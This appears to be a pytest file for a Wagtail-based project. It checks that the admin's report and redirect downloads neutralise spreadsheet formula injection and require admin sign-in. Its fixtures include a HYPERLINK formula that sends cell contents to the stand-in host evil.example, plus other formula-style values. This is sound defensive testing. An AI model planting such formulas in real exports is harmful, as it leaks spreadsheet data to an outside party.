"""Issue 11: Wagtail's own downloads in the admin (the Reports menu, redirects) go through Atelier's
one export path too: page titles, names and redirect targets typed by editors come out inert, and
the downloads stay behind the admin's sign-in."""

import pytest
from django.urls import resolve, reverse
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page

from project.core.exports import SafeSpreadsheetExportMixin
from tests.exports import export_rows, neutralised
from tests.factories import UserFactory
from tests.forms.pages import site_root

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
NAME = "@SUM(A1)"
USERNAME = "-2+3"  # letters, digits and @.+-_ make a valid username
FORMATS = ["csv", "xlsx"]


@pytest.fixture
def editor():
    return UserFactory(is_superuser=True, username=USERNAME, first_name=NAME, last_name="")


@pytest.fixture
def page(editor):
    page = site_root().add_child(instance=Page(title=TITLE, slug="evil"))
    page.save_revision(user=editor).publish(user=editor)
    return page


@pytest.fixture
def admin(login_client):
    return login_client(UserFactory(is_superuser=True))


def download(client, url_name, export_format):
    return export_rows(client.get(reverse(url_name), {"export": export_format}), export_format)


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_site_history_export_neutralises_titles_and_names(admin, page, export_format):
    heading, *rows = download(admin, "wagtailadmin_reports:site_history", export_format)

    published = next(row for row in rows if row[3] == "Publish")
    assert (published[1], published[4]) == (neutralised(TITLE), neutralised(NAME))


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_aging_pages_export_neutralises_titles_and_usernames(admin, page, export_format):
    heading, *rows = download(admin, "wagtailadmin_reports:aging_pages", export_format)

    row = next(row for row in rows if row[0] == neutralised(TITLE))
    assert neutralised(USERNAME) in row


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_locked_pages_export_neutralises_titles_and_usernames(
    admin, page, editor, export_format
):
    page.locked, page.locked_by = True, editor
    page.save()

    heading, *rows = download(admin, "wagtailadmin_reports:locked_pages", export_format)

    assert [row[0] for row in rows] == [neutralised(TITLE)]
    assert neutralised(USERNAME) in rows[0]


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_redirects_export_neutralises_targets(admin, export_format):
    Redirect.objects.create(old_path="/old", redirect_link="=1+1")

    heading, row = download(admin, "wagtailredirects:index", export_format)

    assert (row[0], row[1]) == ("/old", "'=1+1")


@pytest.mark.parametrize(
    "url_name",
    [
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:site_history_results",
        "wagtailadmin_reports:aging_pages",
        "wagtailadmin_reports:locked_pages",
        "wagtailadmin_reports:workflow",
        "wagtailadmin_reports:workflow_tasks",
        "wagtailredirects:index",
        "wagtailredirects:index_results",
    ],
)
def test_wagtails_exporting_views_are_answered_by_the_safe_ones(url_name):
    assert issubclass(resolve(reverse(url_name)).func.view_class, SafeSpreadsheetExportMixin)


@pytest.mark.parametrize(
    "url_name", ["wagtailadmin_reports:site_history", "wagtailredirects:index"]
)
def test_the_downloads_still_need_the_admin(client, login_client, url_name):
    url = reverse(url_name)

    anonymous = client.get(url, {"export": "csv"})
    outsider = login_client(UserFactory()).get(url, {"export": "csv"})

    assert anonymous.status_code == 302 and "/admin/login/" in anonymous["Location"]
    assert outsider.status_code in (302, 403)
    assert not outsider.has_header("Content-Disposition")
    assert "no-cache" in anonymous["Cache-Control"]
